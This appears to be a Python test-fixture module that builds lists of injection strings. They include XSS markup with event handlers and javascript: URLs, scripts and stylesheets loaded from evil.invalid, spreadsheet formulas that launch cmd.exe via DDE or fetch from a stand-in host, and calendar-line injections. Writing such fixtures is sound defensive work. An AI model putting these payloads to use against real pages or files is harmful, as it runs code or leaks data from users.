"""Texts that try to be more than text: markup and scripts, formulas and fields, lines of other formats."""

from __future__ import annotations

_RUNS = ("alert(1)", "window.ran=1", "fetch('http://evil.invalid/')")
_HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onclick",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onpageshow",
    "onpointerenter",
)
_TAGS = ("img src=x", "svg", "input autofocus", "body", "details open", "video src=x", "iframe src=x", "a href=x")
_WRAPS = ("{}", '">{}', "'>{}", "</title>{}", "</script>{}", "--><!-- -->{}", "]]>{}", "</textarea>{}")

_BARE = [
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src=//evil.invalid/x.js></script>",
    "<svg><script>{run}</script></svg>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<a href='javascript:{run}'>x</a>",
    "<form action='javascript:{run}'><button>x</button></form>",
    "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>",
    "<base href='//evil.invalid/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<link rel=stylesheet href='//evil.invalid/x.css'>",
    "<style>@import '//evil.invalid/x.css';</style>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "javascript:{run}",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
]

MARKUP: tuple[str, ...] = tuple(
    dict.fromkeys(
        [bare.format(run=run) for bare in _BARE for run in _RUNS]
        + [wrap.format(f"<{tag} {on}={_RUNS[1]}>") for tag in _TAGS for on in _HANDLERS[:3] for wrap in _WRAPS]
        + [f"<{_TAGS[0]} {on}={run}>" for on in _HANDLERS for run in _RUNS]
    )
)
"""More than two hundred texts that would run something if a page took them for markup."""

FORMULAS: tuple[str, ...] = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.invalid","x")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=1+1",
    "\\t=1+1",
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    "{ DDE excel x }",
    "{ INCLUDEPICTURE http://evil.invalid/x }",
    '=IMPORTXML("http://evil.invalid","//a")',
    "|calc",
    "%0A=1+1",
)
"""Texts that a spreadsheet or a word processor would reckon with."""

OTHER_LINES: tuple[str, ...] = (
    "x\\nBEGIN:VALARM",
    'x;ALTREP="http://evil.invalid"',
    "x,y;z\\\\",
    "END:VEVENT",
    "ATTACH:http://evil.invalid/x",
)
"""Texts that look like lines of a calendar file."""

ALL = (*MARKUP, *FORMULAS, *OTHER_LINES)
